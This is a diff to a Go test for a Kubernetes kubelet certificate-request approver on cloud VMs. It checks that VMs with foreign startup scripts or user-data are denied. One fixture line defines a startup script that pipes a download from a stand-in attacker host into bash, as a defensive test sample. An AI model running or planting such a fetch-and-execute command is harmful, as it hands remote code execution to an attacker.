@@ -981,16 +981,27 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	// MIG made while a per-instance config gave it a startup-script, the
 	// config deleted since (deletePerInstanceConfigs leaves the VM as it
 	// is); and, approved, one made by createInstances, which leaves a
-	// per-instance config that only names it, in either shape.
+	// per-instance config that only names it, in either shape. The VMs
+	// that run another script or user-data publish their kubelet's key, as
+	// the join script (which the foreign script may run as well) does:
+	// their CSRs are denied for what they run, not left pending for want
+	// of a key (the one whose guest attributes are off cannot publish).
 	foreign := "#!/bin/bash\ncurl -s https://attacker.example/x | bash\n"
+	ranVMs := map[string]*joiningVM{}
 	for name, kv := range map[string][2]string{"renew-work-md01": {model.MetadataStartupScript, foreign}, "renew-work-ud01": {"user-data", "#cloud-config\nruncmd: [id]\n"},
 		"renew-work-ga01": {"enable-guest-attributes", "FALSE"}} {
-		f.set(zone, name, fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
+		id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
 		f.setMetadata(zone, name, kv[0], kv[1])
+		if name != "renew-work-ga01" {
+			ranVMs[name] = newVM(t)
+			f.writeGuest(zone, name, model.KubeletKeyAttribute, ranVMs[name].published(id))
+		}
 	}
 	f.addConfig(zone, mig, "renew-work-pr01", map[string]string{model.MetadataStartupScript: foreign})
-	f.set(zone, "renew-work-pr01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
+	prID := f.set(zone, "renew-work-pr01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
 	f.removeConfig(zone, mig, "renew-work-pr01")
+	ranVMs["renew-work-pr01"] = newVM(t)
+	f.writeGuest(zone, "renew-work-pr01", model.KubeletKeyAttribute, ranVMs["renew-work-pr01"].published(prID))
 	// A fresh VM whose boot disk is not the one its MIG made with it
 	// (detached and another attached in its place, the VM stopped).
 	bdID := f.set(zone, "renew-work-bd01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig, BootDisk: "renew-work-bd01-other"})
@@ -1035,13 +1046,13 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	ask("renew-work-tm01", "Denied", "instance us-central1-a/renew-work-tm01 is STOPPING, not RUNNING")
 	ask("renew-work-xm01", "Denied", "was not created by MIG renew-work-us-central1-a (created-by: projects/123456789012/zones/us-central1-a/instanceGroupManagers/someone-elses-mig)")
 	ask("renew-work-pi01", "Denied", "MIG renew-work-us-central1-a holds a per-instance config for renew-work-pi01 that preserves state")
-	ask("renew-work-md01", "Denied", "instance us-central1-a/renew-work-md01 has metadata startup-script other than that of its instance template renew-work-20261201093000123400000001")
-	ask("renew-work-ud01", "Denied", "instance us-central1-a/renew-work-ud01 has metadata user-data, which the group template does not set")
-	ask("renew-work-ga01", "Denied", "instance us-central1-a/renew-work-ga01 has metadata enable-guest-attributes other than the group template")
-	ask("renew-work-pr01", "Denied", "instance us-central1-a/renew-work-pr01 has metadata startup-script other than that of its instance template")
 	askAs := func(name, decision, message string, request []byte) {
 		wants = append(wants, want{createCSR(t, joiner, request, model.KubeletClientSigner), name, decision, message})
 	}
+	askAs("renew-work-md01", "Denied", "instance us-central1-a/renew-work-md01 has metadata startup-script other than that of its instance template renew-work-20261201093000123400000001", ranVMs["renew-work-md01"].csr(t, "renew-work-md01"))
+	askAs("renew-work-ud01", "Denied", "instance us-central1-a/renew-work-ud01 has metadata user-data, which the group template does not set", ranVMs["renew-work-ud01"].csr(t, "renew-work-ud01"))
+	ask("renew-work-ga01", "Denied", "instance us-central1-a/renew-work-ga01 has metadata enable-guest-attributes other than the group template")
+	askAs("renew-work-pr01", "Denied", "instance us-central1-a/renew-work-pr01 has metadata startup-script other than that of its instance template", ranVMs["renew-work-pr01"].csr(t, "renew-work-pr01"))
 	// The autoscaler's VM, which published its kubelet's key.
 	caVM := newVM(t)
 	f.writeGuest(zone, "renew-ca-a1b2", model.KubeletKeyAttribute, caVM.published(caID))
@@ -1155,6 +1166,9 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 				return ""
 			})
 			d := decision(c)
+			if d == nil {
+				continue
+			}
 			wantReason := model.CSRReasonDenied
 			if w.decision == "Approved" {
 				wantReason = model.CSRReasonApproved
